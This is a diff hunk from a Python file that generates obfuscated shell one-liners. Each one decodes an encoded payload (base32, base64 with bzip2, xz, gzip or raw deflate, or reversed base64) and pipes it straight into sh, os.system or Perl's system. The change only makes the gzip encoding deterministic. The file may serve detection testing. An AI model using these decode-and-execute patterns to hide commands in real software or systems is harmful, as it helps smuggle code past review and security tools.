@@ -278,7 +278,7 @@ def _raw_deflate(data: bytes) -> bytes:
         "echo %s | tr a-z A-Z | base32 -d | sh" % base64.b32encode(_PAYLOAD).decode().lower(),
         "echo %s | base64 -d | bunzip2 | sh" % base64.b64encode(bz2.compress(_PAYLOAD)).decode(),
         "echo %s | base64 -d | xz -d | sh" % base64.b64encode(lzma.compress(_PAYLOAD)).decode(),
-        "echo %s | base64 -d | gunzip | sh" % base64.b64encode(gzip.compress(_PAYLOAD)).decode(),
+        "echo %s | base64 -d | gunzip | sh" % base64.b64encode(gzip.compress(_PAYLOAD, mtime=0)).decode(),
         "python3 -c \"import zlib,base64,os;os.system(zlib.decompress(base64.b64decode('%s'),-15))\""
         % base64.b64encode(_raw_deflate(_PAYLOAD)).decode(),
         "perl -MMIME::Base64 -e 'system(decode_base64(scalar reverse q{%s}))'"
